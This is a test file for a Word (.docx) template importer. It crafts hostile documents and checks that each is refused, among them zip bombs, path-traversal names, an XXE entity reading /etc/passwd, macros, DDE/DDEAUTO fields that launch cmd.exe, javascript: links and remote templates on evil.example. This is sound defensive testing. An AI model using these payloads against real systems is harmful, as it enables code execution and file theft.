import { randomBytes } from 'node:crypto';
import { crc32, deflateRawSync } from 'node:zlib';
import { Document, Header, Packer, Paragraph, Table, TableCell, TableRow } from 'docx';
import JSZip from 'jszip';
import { readWordContent } from '../../../../connectors/documents/readWordContent';
import { textOfBlocks } from '../../../../connectors/documents/wordContent';
import { openTemplate } from '../../../../connectors/documents/wordTemplate/openTemplate';
import { WordTemplateError } from '../../../../connectors/documents/wordTemplate/wordTemplateError';

async function word(lines: readonly string[] = ['Dear {{name}}']): Promise<Buffer> {
	return await Packer.toBuffer(new Document({ sections: [{ headers: { default: new Header({ children: [new Paragraph('{{name}}')] }) }, children: lines.map((line) => new Paragraph(line)) }] }));
}

type Change = (zip: JSZip) => Promise<void> | void;

async function changed(change: Change, lines?: readonly string[]): Promise<Buffer> {
	const zip = await JSZip.loadAsync(await word(lines));
	await change(zip);
	return await zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
}

const edit = (name: string, from: string | RegExp, to: string): Change => async (zip) => void zip.file(name, ((await zip.file(name)?.async('string')) ?? '').replace(from, to));
const relation = (type: string, target: string, mode = ' TargetMode="External"'): Change =>
	edit('word/_rels/document.xml.rels', '</Relationships>', `<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${mode}/></Relationships>`);
const body = (xml: string): Change => edit('word/document.xml', '<w:sectPr', `${xml}<w:sectPr`);
const run = (inner: string) => `<w:p><w:r>${inner}</w:r></w:p>`;
const code = (...parts: string[]) => `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${parts.map((part) => `<w:r><w:instrText xml:space="preserve">${part}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;

async function refusal(file: Uint8Array): Promise<WordTemplateError> {
	const opened = await openTemplate(file).catch((error: unknown) => error);
	if (opened instanceof WordTemplateError) return opened;
	if (opened instanceof Error) throw opened;
	try {
		(opened as Awaited<ReturnType<typeof openTemplate>>).docx({ name: 'Ada', list: [{ name: 'Ada' }], pupil: { name: 'Ada' } });
	} catch (error) {
		if (error instanceof WordTemplateError) return error;
		throw error;
	}
	throw new Error('It was taken');
}

/** One file in a zip whose directory tells any size. */
function zipOf(name: string, content: Buffer, told: { size?: number; name?: string } = {}): Buffer {
	const packed = deflateRawSync(content);
	const fileName = Buffer.from(told.name ?? name);
	const size = told.size ?? content.length;
	const local = Buffer.alloc(30);
	local.writeUInt32LE(0x04034b50, 0);
	local.writeUInt16LE(20, 4);
	local.writeUInt16LE(8, 8);
	local.writeUInt32LE(crc32(content), 14);
	local.writeUInt32LE(packed.length, 18);
	local.writeUInt32LE(size, 22);
	local.writeUInt16LE(fileName.length, 26);
	const central = Buffer.alloc(46);
	central.writeUInt32LE(0x02014b50, 0);
	central.writeUInt16LE(20, 4);
	central.writeUInt16LE(20, 6);
	local.copy(central, 10, 8, 26);
	central.writeUInt16LE(fileName.length, 28);
	const end = Buffer.alloc(22);
	end.writeUInt32LE(0x06054b50, 0);
	end.writeUInt16LE(1, 8);
	end.writeUInt16LE(1, 10);
	end.writeUInt32LE(46 + fileName.length, 12);
	end.writeUInt32LE(30 + fileName.length + packed.length, 16);
	return Buffer.concat([local, fileName, packed, central, fileName, end]);
}

describe('a file that is no Word document', () => {
	it.each([
		['a PDF', Buffer.from('%PDF-1.7\n…'), /not a Word document.*a PDF/, /Word file that the PDF was made from/],
		['a .doc or an encrypted file', Buffer.from('D0CF11E0A1B11AE1', 'hex'), /older Word document \(\.doc\)/, /Word Document \(\.docx\)/],
		['an RTF file', Buffer.from('{\\rtf1 x}'), /rich text/, /Word Document/],
		['a web page', Buffer.from('<!DOCTYPE html><html>'), /web page/, /Word Document/],
		['nothing', Buffer.alloc(0), /empty/, /Word Document/],
		['random bytes', Buffer.from('hello world'), /not a Word document/, /Word Document/],
		['a zip of something else', zipOf('notes.txt', Buffer.from('x')), /holds no Word document/, /Word Document/],
		['a spreadsheet', zipOf('xl/workbook.xml', Buffer.from('<x/>')), /an Excel workbook/, /Word Document/],
		['an OpenDocument file', zipOf('content.xml', Buffer.from('<x/>')), /OpenDocument/, /Word Document/],
		['a zip cut off', (zipOf('word/document.xml', Buffer.from('<x/>'))).subarray(0, 60), /damaged/, /save it again/],
	])('is refused, and the message says what it is: %s', async (_, file, message, advice) => {
		const error = await refusal(file);
		expect([error.message, error.advice]).toEqual([expect.stringMatching(message), expect.stringMatching(advice)]);
	});
});

describe('a file that would fill the memory', () => {
	it.each([
		['a part of 30 MB that packs to nothing', zipOf('word/document.xml', Buffer.alloc(30 * 1024 * 1024)), /fill the computer’s memory/],
		['a part larger than its directory says', zipOf('word/document.xml', Buffer.alloc(4 * 1024 * 1024), { size: 1000 }), /damaged/],
		['a text of 11 MB', zipOf('word/document.xml', Buffer.alloc(11 * 1024 * 1024, randomBytes(1024 * 1024))), /memory/],
	])('is refused before it is unpacked: %s', async (_, file, message) => {
		expect((await refusal(file)).message).toMatch(message);
	});

	it('is refused where it holds thousands of files, or one twice', async () => {
		const many = await changed((zip) => void Array.from({ length: 1500 }, (_, place) => zip.file(`word/media/${place}.png`, 'x')));
		expect((await refusal(many)).message).toMatch(/it holds 1,5\d\d files/);
	});

	it.each(['../../etc/passwd', '/etc/passwd', 'C:\\evil.xml', 'word\\..\\..\\x'])('is refused where a name leads out of it: %s', async (name) => {
		expect((await refusal(zipOf('x', Buffer.from('x'), { name }))).message).toMatch(/damaged|no Word document/);
	});

	it.each([
		['entities inside entities', edit('word/document.xml', /<w:document/, '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><w:document'), /DOCTYPE/],
		['an entity that reads a file', edit('word/styles.xml', /<w:styles/, '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><w:styles'), /DOCTYPE/],
		['elements nested 10,000 deep', body(`${'<w:sdt><w:sdtContent>'.repeat(5000)}${'</w:sdtContent></w:sdt>'.repeat(5000)}`), /nested deeper/],
		['text in UTF-16', (zip: JSZip) => void zip.file('word/document.xml', Buffer.from('\uFEFF<w:document/>', 'utf16le')), /UTF-8/],
		['XML that is broken', edit('word/document.xml', '</w:body>', ''), /cannot be filled/],
	])('is refused: %s', async (_, change, message) => {
		expect((await refusal(await changed(change))).message).toMatch(message);
	});
});

describe('a template that would run or fetch something', () => {
	it.each<[string, Change, RegExp]>([
		['a .docm', edit('[Content_Types].xml', 'wordprocessingml.document.main', 'ms-word.document.macroEnabled.main'), /macros/],
		['macros in a .docx', (zip) => void zip.file('word/vbaProject.bin', 'x'), /macros/],
		['a picture on the web', relation('image', 'https://tracker.example/pixel.png'), /picture that lies elsewhere/],
		['a picture on a share', relation('image', '\\\\server\\share\\x.png'), /picture that lies elsewhere/],
		['an OLE object', relation('oleObject', 'embeddings/oleObject1.bin', ''), /OLE/],
		['a linked OLE object', relation('oleObject', 'file:///c:/x.xlsx'), /OLE/],
		['an embedded file', relation('package', 'embeddings/x.xlsx', ''), /file of another program/],
		['an ActiveX control', relation('control', 'activeX/activeX1.xml', ''), /ActiveX/],
		['a subdocument', relation('subDocument', 'file:///c:/x.docx'), /another document/],
		['an altChunk', relation('aFChunk', 'x.html', ''), /altChunk/],
		['a frame', relation('frame', 'https://evil.example/'), /frame/],
		['a data source', relation('mailMergeSource', 'file:///c:/pupils.csv'), /mail merge/],
		['some other external file', relation('theme', 'https://evil.example/theme.xml'), /points to another file/],
		['a link that runs a script', relation('hyperlink', 'javascript:alert(1)'), /link that leads neither/],
		['a link to a file', relation('hyperlink', 'file:///c:/windows/system32/calc.exe'), /link that leads neither/],
		['DDE', body(code('DDE cmd "/c calc"')), /field code DDE/],
		['DDEAUTO, cut in two', body(code('DDE', 'AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')), /field code DDEAUTO/],
		['DDE behind another field', body(code('QUOTE 68 68 69')), /field code QUOTE/],
		['INCLUDETEXT', body(code(' INCLUDETEXT "c:\\\\secret.docx" ')), /field code INCLUDETEXT/],
		['INCLUDEPICTURE', body(code('INCLUDEPICTURE "https://tracker.example/x.png" \\d')), /field code INCLUDEPICTURE/],
		['a code in a simple field', body('<w:p><w:fldSimple w:instr="&#68;DEAUTO x y"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'), /field code DDEAUTO/],
		['a link by field code', body(code('HYPERLINK "file:///c:/x.exe"')), /link that leads neither/],
		['Word’s own mail merge', body(code(' MERGEFIELD FirstName ')), /mail merge \(MERGEFIELD\)/],
		['Word’s own condition', body(code(' IF x = y "a" "b" ')), /mail merge \(IF\)/],
		['a code in the head', edit('word/header1.xml', '</w:hdr>', `${code('DDEAUTO x')}</w:hdr>`), /field code DDEAUTO/],
	])('is refused, and the message says what it holds: %s', async (_, change, message) => {
		const error = await refusal(await changed(change));
		expect(error.message).toMatch(message);
		expect(error.advice).not.toBe('');
	});

	it.each<[string, Change]>([
		['page numbers', body(code(' PAGE \\* MERGEFORMAT '))],
		['a web link', relation('hyperlink', 'https://school.example/')],
		['a link by field code', body(code(' HYPERLINK "https://school.example/" \\o "Us" '))],
		['a link to a place in the document', body(code(' HYPERLINK \\l "_Toc1" '))],
	])('is taken where it holds only what is harmless: %s', async (_, change) => {
		const { docx } = await openTemplate(await changed(change));
		expect(textOfBlocks((await readWordContent(docx({ name: 'Ada' }))).body)).toContain('Dear Ada');
	});

	it('loses the link to the template that it was made from', async () => {
		const file = await changed(async (zip) => {
			zip.file('word/_rels/settings.xml.rels', '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>');
			await edit('word/settings.xml', /(<w:settings[^>]*>)/, '$1<w:attachedTemplate r:id="rId1"/>')(zip);
		});
		const filled = await JSZip.loadAsync((await openTemplate(file)).docx({ name: 'Ada' }));
		const all = await Promise.all(Object.values(filled.files).map(async (each) => await each.async('string')));
		expect(all.join('\n')).not.toMatch(/evil\.example|attachedTemplate/);
	});

	it('becomes a document where it is a Word template (.dotx)', async () => {
		const file = await changed(edit('[Content_Types].xml', 'wordprocessingml.document.main', 'wordprocessingml.template.main'));
		const filled = await JSZip.loadAsync((await openTemplate(file)).docx({ name: 'Ada' }));
		expect(await filled.file('[Content_Types].xml')?.async('string')).toContain('wordprocessingml.document.main+xml');
	});
});

describe('tags that are more than names', () => {
	it.each([
		['{{constructor}}', /asks for \{\{constructor\}\}, which is no field/],
		['{{constructor.name}}', /no field/],
		['{{__proto__}}', /no merge field/],
		['{{pupil.__proto__.x}}', /no merge field/],
		['{{pupil.constructor}}', /no field/],
		['{{pupil.toString}}', /no field/],
		['{{list.length}}', /no field/],
		['{{list.0.name}}', /no merge field/],
		['{{= 1+1 }}', /nothing is calculated or run/],
		['{{name()}}', /nothing is calculated/],
		['{{name|upper}}', /nothing is calculated/],
		['{{process.exit}}', /no field/],
		['{{> partial}}', /no merge field/],
		['{{#if name}}x{{/if}}', /write \{\{#meeting\.isSet\}\}/],
		['{{pupil}}', /no field/],
		['{{list}}', /is a list/],
		['{{#list}}{{#list}}{{name}}{{/list}}{{/list}}', /stands inside itself/],
		['{{#list}}x', /never closed/],
		['x{{/list}}', /never began/],
		['{{#list}}{{#name}}x{{/list}}{{/name}}', /must be closed first/],
		['{{name', /without their counterparts/],
		['name}}', /without their counterparts/],
		[`${'{{#name}}'.repeat(10_000)}x${'{{/name}}'.repeat(10_000)}`, /stands inside itself|inside each other|more than 2,000/],
		[Array.from({ length: 40 }, (_, place) => `{{#f${place}}}`).join('') + Array.from({ length: 40 }, (_, place) => `{{/f${39 - place}}}`).join(''), /more than 12/],
		['{{name}} '.repeat(3000), /more than 2,000 merge fields/],
	])('are refused: %.60s', async (line, message) => {
		const error = await refusal(await word([line]));
		expect(error.message).toMatch(message);
		expect(error.message).not.toMatch(/Ada|stack|at Object/);
	});

	it('are each told, not one after the other', async () => {
		const { problems } = await openTemplate(await word(['{{#list}}x', '{{= 1}}', '{{name']));
		expect(problems).toHaveLength(3);
	});

	it('end where lists inside lists would fill the memory', async () => {
		const hundred = Array.from({ length: 300 }, () => ({ name: 'x' }));
		const { content } = await openTemplate(await word(['{{#a}}{{#b}}{{name}}{{/b}}{{/a}}']));
		expect(() => content({ name: '', a: hundred, b: hundred })).toThrow(/repeats more than 20,000 times/);
	});

	it.each([
		['the address of a link', relation('hyperlink', 'https://school.example/?pupil={{name}}')],
		['a field code', body(code(' HYPERLINK "https://school.example/{{name}}" '))],
	])('are refused where nothing is filled: %s', async (_, change) => {
		expect((await refusal(await changed(change))).message).toMatch(/address of a link/);
	});

	it('are taken where Word has cut them into runs, put invisible characters in, or deleted text beside them', async () => {
		const file = await changed(body(`<w:p><w:r><w:t>{</w:t></w:r><w:proofErr w:type="spellStart"/><w:r><w:rPr><w:b/></w:rPr><w:t>{na</w:t></w:r><w:r><w:t>me\u200B }</w:t></w:r><w:r><w:t>}!</w:t></w:r><w:del w:id="9" w:author="x"><w:r><w:delText>{{gone}}</w:delText></w:r></w:del></w:p>${run('<w:t>{{ # name }}yes{{/name}}</w:t>')}`));
		const template = await openTemplate(file);
		expect(template.problems).toEqual([]);
		const record = { name: 'Ada' };
		expect(textOfBlocks(template.content(record).body)).toBe('Dear Ada\nAda!\nyes');
		expect((await readWordContent(template.docx(record))).body).toEqual(template.content(record).body);
	});

	it('are never made by values', async () => {
		const template = await openTemplate(await word(['{{name}} {{#list}}{{name}}{{/list}}']));
		const record = { name: '{{#list}}{{pupil.secret}}', list: [{ name: '{{/list}}<w:br/>' }] };
		expect(textOfBlocks(template.content(record).body)).toBe('{{#list}}{{pupil.secret}} {{/list}}<w:br/>');
		expect((await readWordContent(template.docx(record))).body).toEqual(template.content(record).body);
	});

	it('leave a file that Word opens where conditions leave a cell or a table empty', async () => {
		const cell = (text: string) => new TableCell({ children: [new Paragraph(text)] });
		const file = await Packer.toBuffer(new Document({ sections: [{ children: [
			new Table({ rows: [new TableRow({ children: [cell('{{#no}}x{{/no}}'), cell('y')] })] }),
			new Paragraph('between'),
			new Table({ rows: [new TableRow({ children: [cell('{{#none}}{{name}}'), cell('{{/none}}')] })] }),
		] }] }));
		const template = await openTemplate(file);
		const filled = await JSZip.loadAsync(template.docx({ no: false, none: [] }));
		const xml = (await filled.file('word/document.xml')?.async('string')) ?? '';
		expect(xml.match(/<w:tbl>/g)).toHaveLength(1);
		expect(xml).toMatch(/<w:p\/><\/w:tc>/);
		expect((await readWordContent(template.docx({ no: false, none: [] }))).body).toEqual(template.content({ no: false, none: [] }).body);
	});
});
